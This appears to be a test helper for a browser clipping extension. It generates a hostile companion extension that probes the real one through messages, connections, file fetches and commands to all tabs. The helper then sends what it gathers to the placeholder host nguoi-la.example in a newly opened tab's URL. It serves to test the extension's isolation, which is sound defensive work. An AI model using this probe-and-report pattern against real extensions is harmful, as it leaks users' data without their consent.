import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

/** Where the stranger puts what it got: any address of the newspaper that serves nothing. */
export const REPORT = 'https://nguoi-la.example/ket-qua';

/** What the stranger tried, and what came of it. */
export interface Attempt {
  readonly what: string;
  /** The answer as JSON; absent where the browser refused. */
  readonly answer?: string;
  readonly refused?: string;
}

/** Runs in the stranger's background: knocks at every door and opens a tab that tells what came of it. */
const knock = `
async function tried(what, work) {
  const wait = new Promise((_, refuse) => setTimeout(refuse, 3000, new Error('no answer')));
  try {
    return { what, answer: JSON.stringify(await Promise.race([work(), wait])) };
  } catch (error) {
    return { what, refused: String(error) };
  }
}
const connected = (id) => new Promise((done, refuse) => {
  const port = api.runtime.connect(id);
  port.onMessage.addListener(done);
  port.onDisconnect.addListener(() => refuse(api.runtime.lastError ?? port.error ?? new Error('closed')));
  port.postMessage({ trichLuc: 1, kind: 'clipState', request: { canonicalUrl: WANTED } });
});
const ours = (kind, request) => ({ trichLuc: 1, kind, request });
(async () => {
  const attempts = [];
  for (const [kind, request] of MESSAGES)
    attempts.push(await tried('send ' + kind, () => api.runtime.sendMessage(VICTIM, ours(kind, request))));
  attempts.push(await tried('connect', () => connected(VICTIM)));
  for (const file of ['library.html', 'lexicon.json', 'background.js', 'manifest.json'])
    attempts.push(await tried('read ' + file, async () => (await fetch(ORIGIN + file)).text()));
  for (const tab of await api.tabs.query({}))
    attempts.push(await tried('send to tab', () => api.tabs.sendMessage(tab.id, ours('clipPage', null))));
  await api.tabs.create({ url: REPORT + '#' + encodeURIComponent(JSON.stringify(attempts)) });
})();
`;

/** Another extension, which knows ours and its messages and may read every site; answers the folder it lies in. */
export function strangerExtension(victim: {
  readonly id: string;
  /** Of its pages, with a slash at the end. */
  readonly origin: string;
  readonly messages: readonly (readonly [kind: string, request: unknown])[];
  readonly wanted: string;
}): string {
  const folder = mkdtempSync(join(tmpdir(), 'trich-luc-stranger-'));
  const manifest = {
    manifest_version: 3,
    name: 'Stranger',
    version: '1.0',
    permissions: ['tabs'],
    host_permissions: ['<all_urls>'],
    background: { service_worker: 'knock.js', scripts: ['knock.js'] },
    browser_specific_settings: { gecko: { id: 'stranger@stranger.example' } },
  };
  const constants = {
    VICTIM: victim.id,
    ORIGIN: victim.origin,
    MESSAGES: victim.messages,
    WANTED: victim.wanted,
    REPORT,
  };
  const head = Object.entries(constants).map(([name, value]) => `const ${name} = ${JSON.stringify(value)};`);
  writeFileSync(join(folder, 'manifest.json'), JSON.stringify(manifest));
  writeFileSync(join(folder, 'knock.js'), [...head, 'const api = globalThis.browser ?? chrome;', knock].join('\n'));
  return folder;
}
